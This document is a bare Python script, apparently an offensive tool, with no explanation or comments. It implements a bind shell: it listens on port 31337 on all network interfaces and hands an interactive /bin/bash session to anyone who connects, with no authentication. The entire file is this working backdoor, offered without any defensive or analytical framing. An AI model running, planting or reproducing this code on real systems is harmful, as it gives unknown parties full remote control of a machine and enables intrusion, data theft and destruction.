import socket
import subprocess

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
while True:
    conn, _ = srv.accept()
    subprocess.Popen(["/bin/bash"], stdin=conn, stdout=conn, stderr=conn)
